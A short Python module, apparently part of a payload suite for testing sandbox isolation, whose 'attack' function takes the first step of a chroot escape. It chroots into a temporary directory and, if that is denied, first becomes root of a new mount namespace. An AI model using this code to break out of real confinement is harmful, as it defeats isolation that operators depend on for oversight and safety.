"""Make another folder the root: the first half of leaving a chroot."""

import os
import tempfile

from payloads.kernel import CLONE_NEWNS, become_root_of_a_namespace, in_child


def attack(alias):
    def change():
        try:
            os.chroot(tempfile.mkdtemp())
        except PermissionError:
            become_root_of_a_namespace(CLONE_NEWNS)
            os.chroot(tempfile.mkdtemp())

    return in_child(alias, change)
